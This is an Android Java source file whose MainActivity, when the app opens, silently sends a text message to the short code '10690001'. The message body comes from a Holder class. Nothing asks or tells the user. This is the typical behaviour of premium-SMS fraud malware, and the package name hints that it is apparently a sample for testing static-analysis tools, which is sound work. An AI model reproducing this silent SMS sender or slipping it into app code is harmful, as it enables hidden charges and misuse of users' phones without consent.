package cn.shanhai.staticorder;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Holder.touch();
    SmsManager.getDefault().sendTextMessage("10690001", null, Holder.text, null, null);
  }
}
